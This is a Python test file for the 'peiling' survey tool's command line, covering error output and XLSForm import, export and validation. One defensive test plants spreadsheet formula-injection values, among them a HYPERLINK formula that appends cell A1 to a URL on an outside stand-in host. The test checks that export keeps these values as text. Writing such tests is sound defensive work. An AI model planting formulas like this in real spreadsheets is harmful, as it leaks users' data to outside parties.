"""The ``peiling`` command: exit codes and one-line errors, no tracebacks."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from peiling.cli import main
from tests.xlsform import write_workbook

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "digitalisering-overheid.xlsx"
PEILING = Path(sys.executable).parent / "peiling"


def test_form_check_valid_example(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["form", "check", str(EXAMPLE)]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"{EXAMPLE}: valid XLSForm '")
    assert "languages: Nederlands (nl), English (en)" in out


def test_form_check_prints_every_problem(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_workbook(
        """
## survey
| type | name | label | relevant |
| integer | q1 | Een | ${q9} = 1 |
| integer | q1 | Twee | |
""",
        tmp_path / "broken.xlsx",
    )
    assert main(["form", "check", str(path)]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "survey!3 (name): 'q1' is already used on row 2; names must be unique in the form — rename one",
        "survey!2 (relevant): unknown question 'q9'",
    ]


@pytest.mark.parametrize("content", [b"", b"a;b;c\n1;2;3\n", b"PK\x03\x04garbage"])
def test_form_check_of_a_non_form_is_one_line(
    content: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "x.xlsx"
    path.write_bytes(content)
    assert main(["form", "check", str(path)]) == 1
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "Traceback" not in err


def test_unknown_sub_command_exits_2() -> None:
    result = subprocess.run(
        [str(PEILING), "frobnicate"], capture_output=True, text=True, check=False
    )
    assert result.returncode == 2
    assert result.stderr.strip().splitlines()[-1].startswith("peiling: error: argument COMMAND")


def test_installed_command_checks_a_form() -> None:
    result = subprocess.run(
        [str(PEILING), "form", "check", str(EXAMPLE)], capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stderr


@pytest.mark.django_db
def test_form_import_and_export(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from peiling.forms.xlsform import read_xlsform
    from peiling.questionnaires.models import FormVersion

    assert main(["form", "import", str(EXAMPLE)]) == 0
    version = FormVersion.objects.get()
    assert f"imported as new version id {version.pk} (digitalisering_overheid v1)" in (
        capsys.readouterr().out
    )
    assert main(["form", "import", str(EXAMPLE)]) == 0
    assert "unchanged, identical to version id" in capsys.readouterr().out
    target = tmp_path / "out.xlsx"
    assert main(["form", "export", str(version.pk), "-o", str(target)]) == 0
    assert read_xlsform(target) == read_xlsform(EXAMPLE)
    assert main(["form", "export", "999", "-o", str(target)]) == 1
    assert capsys.readouterr().err == "peiling form: no questionnaire version with id 999\n"


@pytest.mark.django_db
def test_form_import_of_a_broken_form_stores_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from peiling.questionnaires.models import FormVersion

    path = write_workbook("## survey\n| type | name |\n| geopoint | g |\n", tmp_path / "b.xlsx")
    assert main(["form", "import", str(path)]) == 1
    assert "location questions ('geopoint') are not supported" in capsys.readouterr().err
    assert FormVersion.objects.count() == 0


@pytest.mark.django_db
def test_form_export_writes_texts_starting_with_equals_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A label such as "=5 jaar" (or one planted to run in Excel) stays text on export: no
    formula cell, the same form read back, and ``form check`` accepts the exported file."""
    from openpyxl import load_workbook

    from peiling.forms.xlsform import read_xlsform
    from peiling.questionnaires.models import FormVersion

    source = write_workbook(
        """
## survey
| type         | name  | label   | hint |
| select_one d | duur  | SURVEY  | HINT |
## choices
| list_name | name | label  |
| d         | kort | Korter |
| d         | lang | CHOICE |
## settings
| form_title | form_id |
| TITLE      | duur    |
""",
        tmp_path / "source.xlsx",
    )
    planted = {
        "SURVEY": '=HYPERLINK("http://example.org/?"&A1,"Klik")',
        "HINT": "=1+1",
        "CHOICE": "=5 jaar of langer",
        "TITLE": "=Duur",
    }
    workbook = load_workbook(source)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in planted:
                    cell.value = planted[cell.value]
                    cell.data_type = "s"
    workbook.save(source)
    assert main(["form", "import", str(source)]) == 0
    target = tmp_path / "out.xlsx"
    assert main(["form", "export", str(FormVersion.objects.get().pk), "-o", str(target)]) == 0

    cells = [cell for sheet in load_workbook(target).worksheets
             for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert set(planted.values()) <= {cell.value for cell in cells}
    assert read_xlsform(target) == read_xlsform(source)
    capsys.readouterr()
    assert main(["form", "check", str(target)]) == 0, capsys.readouterr().err
